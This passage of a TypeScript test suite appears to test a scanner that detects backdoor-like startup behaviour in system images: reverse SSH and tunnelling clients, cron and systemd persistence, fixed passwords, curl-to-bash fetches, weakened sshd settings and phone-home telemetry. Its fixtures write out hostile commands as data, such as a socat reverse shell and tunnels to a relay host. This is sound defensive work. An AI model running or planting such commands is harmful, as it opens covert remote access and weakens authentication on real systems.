	finds,
	'remoteAccess',
	enabled('t.service', `[Service]\nExecStart=/usr/bin/ssh \\\n# to us\n  -NR 0:localhost:22 \\\r\n t@relay.larkspur-queue.com\n`),
	['ssh -R relay.larkspur-queue.com @ t@relay.larkspur-queue.com'],
);
test(
	'a unit with a comment within a line that a script writes',
	finds,
	'remoteAccess',
	boots(
		`cat > /etc/systemd/system/t.service <<'EOF'\n[Service]\nExecStart=/usr/bin/ssh \\\n# to us\n  -NR 0:localhost:22 t@relay.larkspur-queue.com\nEOF\nsystemctl enable t`,
	),
	['ssh -R relay.larkspur-queue.com @ t@relay.larkspur-queue.com'],
);
test('a line of a crontab that a script adds', finds, 'remoteAccess', boots(`(crontab -l; echo "@reboot ${relay}") | crontab -`), [
	'ssh -R relay.larkspur-queue.com @ t@relay.larkspur-queue.com',
]);
test('a script that a script writes for cron', finds, 'passwords', boots("printf '#!/bin/sh\\necho admin:one | chpasswd\\n' > /etc/cron.daily/x"), [
	'account admin fixed @ one',
]);
test(
	'a unit that a script writes and a timer of its own starts',
	finds,
	'remoteAccess',
	boots(`printf '[Service]\\nExecStart=${relay}\\n' > /etc/systemd/system/t.service\necho '[Timer]' > /etc/systemd/system/t.timer\nsystemctl start t.timer`),
	['ssh -R relay.larkspur-queue.com @ t@relay.larkspur-queue.com'],
);
test('a password of cloud-init that begins like the mark of none', finds, 'passwords', debian({'etc/cloud/cloud.cfg': 'password: xylo1\n'}), [
	'the default account fixed @ xylo1',
]);
test('what a generator does itself', finds, 'passwords', generates("echo 'admin:one' | chpasswd\n"), ['account admin fixed @ one']);

for (const [command, expected] of [
	['chisel client --auth a:b --keepalive 25s https://hub.larkspur-queue.com R:0:localhost:22', 'chisel https://hub.larkspur-queue.com'],
	['chisel client 203.0.113.7:8080 R:22', 'chisel 203.0.113.7:8080'],
	['chisel client 10.0.0.7:8080 R:22', undefined],
	['chisel client hub.larkspur-queue.com 3000:localhost:3000', undefined],
	['inlets-pro tcp client --url wss://exit.larkspur-queue.com:8123 --upstream localhost', 'inlets wss://exit.larkspur-queue.com:8123'],
	['gost -L rtcp://:2222/:22 -F relay+tls://a:b@relay.larkspur-queue.com:443', 'gost relay.larkspur-queue.com:443'],
	['gost -L :8080', undefined],
	['npx -y localtunnel --port 22 --host https://lt.larkspur-queue.com', 'localtunnel https://lt.larkspur-queue.com'],
	['socat TCP:relay.larkspur-queue.com:443 EXEC:/bin/bash', 'socat relay.larkspur-queue.com'],
	['socat TCP-LISTEN:80,fork TCP:web.larkspur-queue.com:80', undefined],
	['sshpass -p x ssh -NR 1:localhost:22 t@relay.larkspur-queue.com', 'ssh -R relay.larkspur-queue.com'],
	['echo letmein1 | anydesk --set-password', 'AnyDesk'],
] as const)
	test(`finds: ${command}`, (t) => {
		t.deepEqual(
			found(boots(command), 'remoteAccess').map((one) => one.slice(0, one.indexOf(' @'))),
			expected === undefined ? [] : [expected],
		);
	});
test(
	'a tunnel whose settings the command line names',
	finds,
	'remoteAccess',
	boots('/opt/larkspur/rathole --client /opt/larkspur/link.toml', {'opt/larkspur/link.toml': '[client]\nremote_addr = "edge.larkspur-queue.com:2333"\n'}),
	['rathole edge.larkspur-queue.com:2333 @ edge.larkspur-queue.com:2333'],
);

/** The usage reports of a product with settings of its own, which starts. */
const reports = (path: string, text: string, more: Files = {}) =>
	startup(enabled('larkspur.service', unit('ExecStart=/opt/larkspur/bin/server'), {[path]: text, ...more})).usageReports.map(
		({setting, to, job}) => `${setting} ${to ?? '-'} ${job?.name ?? '-'}`,
	);

test('usage reports: in each notation, with the host beside them', (t) => {
	const to = 'https://usage.larkspur-queue.com/v1';
	const both = 'usage.larkspur-queue.com larkspur.service';
	t.deepEqual(reports('opt/larkspur/a.yaml', `server:\n  telemetry: {enabled: yes, url: "${to}"}\n`), [`server.telemetry.enabled ${both}`]);
	t.deepEqual(reports('opt/larkspur/a.json', `{"phoneHome": {"enabled": true, "url": "${to}"}}`), [`phoneHome.enabled ${both}`]);
	t.deepEqual(reports('etc/larkspur/a.toml', `[usage-stats]\nenabled = true # by default\nendpoint = "${to}"\n`), [`usage-stats.enabled ${both}`]);
	t.deepEqual(reports('etc/default/larkspur', `LARKSPUR_TELEMETRY_ENABLED=1\nexport LARKSPUR_TELEMETRY_URL="${to}"\n`), [`LARKSPUR_TELEMETRY_ENABLED ${both}`]);
	t.deepEqual(reports('opt/larkspur/a.yaml', 'send_anonymous_usage: true\n'), ['send_anonymous_usage - larkspur.service']);
	t.deepEqual(reports('opt/other/a.yaml', 'send_anonymous_usage: true\n'), []);
	t.deepEqual(reports('opt/other/a.yaml', `telemetry: true\ntelemetry_url: ${to}\n`), ['telemetry usage.larkspur-queue.com -']);
});

test("usage reports: what is off, and what is the customer's own, is none", (t) => {
	for (const text of [
		'telemetry:\n  enabled: false\n',
		'telemetry:\n  disabled: true\n',
		'disable_telemetry: true\nno_usage_stats: true\n',
		'telemetry_opt_out: true\n',
		'telemetry:\n  enabled: true\n  endpoint: http://collector.monitoring.svc:4318\n',
		'telemetry:\n  enabled: true\n  exporter: otlp\n',
		'otel:\n  telemetry:\n    enabled: true\n',
		'service:\n  telemetry:\n    metrics: {level: basic}\n',
		'telemetry_interval: 1\nusage_data_port: 1\n',
		'analytics:\n  enabled: true\n',
	])
		t.deepEqual(reports('opt/larkspur/a.yaml', text), [], text);
	t.deepEqual(reports('opt/larkspur/tests/a.yaml', 'telemetry: true\n'), []);
	t.deepEqual(
		startup(enabled('larkspur.service', unit('Environment=DO_NOT_TRACK=1 LARKSPUR_TELEMETRY=1\nExecStart=/opt/larkspur/bin/server'))).usageReports,
		[],
	);
});

test('what is fetched is surely run where a shell has no other program', (t) => {
	const sure = (command: string) => startup(boots(command)).fetches.map(({how, surely}) => `${how} ${surely === true}`);
	t.deepEqual(sure('curl -fsS https://a.larkspur-queue.com/x | bash'), ['run true']);
	t.deepEqual(sure('curl -fsS https://a.larkspur-queue.com/x | sudo bash -s -- --fast'), ['run true']);
	t.deepEqual(sure('curl -fsSo /tmp/x https://a.larkspur-queue.com/x; sh /tmp/x'), ['run true']);
	t.deepEqual(sure('curl -fsS https://a.larkspur-queue.com/x | python3 /opt/read.py'), ['run false']);
	t.deepEqual(sure('curl -fsSo /tmp/x https://a.larkspur-queue.com/x; chmod 644 /tmp/x'), ['download false']);
});

const configuration = '/etc/ssh/sshd_config';
const changes: Readonly<Record<string, readonly [script: string, expected: readonly string[]]>> = {
	'a line by echo': [`echo "PasswordAuthentication yes" >> ${configuration}`, ['append PasswordAuthentication yes']],
	'a line without quotes': [`echo PermitRootLogin yes >> ${configuration}`, ['append PermitRootLogin yes']],
	'a here-document': [
		`cat > ${configuration}.d/01-a.conf <<EOT\n# PermitRootLogin no\nPasswordAuthentication yes\nPermitRootLogin yes\nEOT`,
		[
			'write KbdInteractiveAuthentication removed',
			'write PermitEmptyPasswords removed',
			'write AuthenticationMethods removed',
			'write PasswordAuthentication yes',
			'write PermitRootLogin yes',
		],
	],
	'tee at the end of a pipe': [`echo "PasswordAuthentication yes" | sudo tee -a ${configuration} >/dev/null`, ['append PasswordAuthentication yes']],
	'a substitution': [`sed -i 's/^#\\?PasswordAuthentication.*/PasswordAuthentication yes/g' ${configuration}`, ['edit PasswordAuthentication yes']],
	'a substitution with other marks': [`sed -ri 's|PermitRootLogin no|PermitRootLogin yes|' ${configuration}`, ['edit PermitRootLogin yes']],
	'a substitution with a group': [`sed -i -E 's/^#?(PasswordAuthentication) .*/\\1 yes/' ${configuration}`, ['edit PasswordAuthentication yes']],
	'a substitution behind an address': [`sed -i '/^PasswordAuthentication/s/no/yes/' ${configuration}`, ['edit PasswordAuthentication yes']],
	'some in one script': [
		`sed -i -e 's/PasswordAuthentication no/PasswordAuthentication yes/;s/PermitRootLogin no/PermitRootLogin yes/' ${configuration}`,
		['edit PasswordAuthentication yes', 'edit PermitRootLogin yes'],
	],
	'a line that becomes a comment': [`sed -i 's/^PasswordAuthentication/#PasswordAuthentication/' ${configuration}`, ['edit PasswordAuthentication removed']],
	'a line that is deleted': [`sed -i '/^PasswordAuthentication/d' ${configuration}`, ['edit PasswordAuthentication removed']],
	'a line that is replaced': [`sed -i '/^PasswordAuthentication/c\\PasswordAuthentication yes' ${configuration}`, ['edit PasswordAuthentication yes']],
	'a line at the end by sed': [`sed -i '$ a PasswordAuthentication yes' ${configuration}`, ['append PasswordAuthentication yes']],
	'perl in place': [`perl -pi -e 's/PasswordAuthentication no/PasswordAuthentication yes/' ${configuration}`, ['edit PasswordAuthentication yes']],
	'all drop-ins': [`sed -i 's/PasswordAuthentication no/PasswordAuthentication yes/' ${configuration}.d/*.conf`, ['edit PasswordAuthentication yes']],
	'a value that is not known': [`echo "PasswordAuthentication $1" >> ${configuration}`, ['append PasswordAuthentication unknown']],
	'a line that is not known': [`echo "$1 yes" >> ${configuration}`, ['append undefined unknown']],
	'an edit whose value is not known': [
		`sed -i "s/^#*PasswordAuthentication.*/PasswordAuthentication $1/" ${configuration}`,
		['edit PasswordAuthentication unknown'],
	],
	'an edit of lines that are not known': [`sed -i "s/^$1 no/$1 yes/" ${configuration}`, ['edit undefined unknown']],
	'a value of another directive': [`echo "Port $1" >> ${configuration}\nsed -i "s/^#Port 22/Port $1/" ${configuration}`, []],
	'some names in one pattern': [
		`sed -i -E 's/^#?(PasswordAuthentication|PermitRootLogin) .*/\\1 yes/' ${configuration}`,
		['edit PasswordAuthentication yes', 'edit PermitRootLogin yes'],
	],
	'some scripts of one command': [
		`sed -i -e 's/^#Port 22/Port 2222/' -e 's/^PasswordAuthentication no/PasswordAuthentication yes/' ${configuration}`,
		['edit PasswordAuthentication yes'],
	],
	'a file whose name is not known': ['sed -i "s/PasswordAuthentication no/PasswordAuthentication yes/" "$1"', ['edit PasswordAuthentication yes']],
	'a file from elsewhere': [`curl -fsS https://larkspur-queue.com/sshd -o ${configuration}`, ['write undefined unknown']],
	'a file from elsewhere by the last letter of a bunch': [`curl -fsSo ${configuration} https://larkspur-queue.com/sshd`, ['write undefined unknown']],
	'a file of a bucket': [`aws s3 cp "$FROM" ${configuration}.d/10-x.conf`, ['write undefined unknown']],
	'a file that is sent': [`curl -T ${configuration} https://larkspur-queue.com/\naws s3 cp ${configuration} s3://larkspur-logs/`, []],
	'the last word of a job': [
		`sed -i '/^PasswordAuthentication/d' ${configuration}\necho 'PasswordAuthentication no' >> ${configuration}`,
		['append PasswordAuthentication no'],
	],
	'a line about something else': [`echo "Banner /etc/issue.net" >> ${configuration}\nsed -i 's/^#Port 22/Port 2222/' ${configuration}`, []],
	'a substitution that is printed alone': [`sed 's/PasswordAuthentication no/PasswordAuthentication yes/' ${configuration}`, []],
	'another program’s file': ['echo "PasswordAuthentication yes" >> /etc/ssh/ssh_config', []],
};
for (const [name, [script, expected]] of Object.entries(changes)) {
	test(`a job changes sshd's configuration: ${name}`, (t) => {
		const found = startupOf(systemOf(boots(script)))?.sshChanges ?? [];
		t.deepEqual(
			found.map(({how, directive, value}) => `${how} ${directive} ${value}`),
			expected,
		);
	});
}

test('cloud-init writes a drop-in of sshd', (t) => {
	const text = 'write_files:\n  - path: /etc/ssh/sshd_config.d/01-a.conf\n    content: |\n      PasswordAuthentication yes\n';
	const system = systemOf(debian({'etc/cloud/cloud.cfg.d/99-a.cfg': text}));
	const [found] = (startupOf(system)?.sshChanges ?? []).filter(({value}) => value === 'yes');
	t.deepEqual([found?.directive, found?.how, text.slice(...(found?.place.range ?? []))], ['PasswordAuthentication', 'write', 'yes']);
});

const dropbears: Readonly<Record<string, readonly [passwords: boolean, rootPasswords: boolean]>> = {
	'dropbear -F -p 22': [true, true],
	'dropbear -w -p 22': [true, false],
	'dropbear -Fg': [true, false],
	'dropbear -sFp 2222': [false, false],
	// The letters behind -p are its port's, and `s` behind -b is a file.
	'dropbear -b s -W 65536 -E': [true, true],
};
for (const [command, expected] of Object.entries(dropbears)) {
	test(`who gets in by a password: ${command}`, (t) => {
		const [found] = startupOf(systemOf(boots(command)))?.dropbears ?? [];
		t.deepEqual([found?.passwords, found?.rootPasswords], expected);
		t.true(found?.isKnown);
	});
}
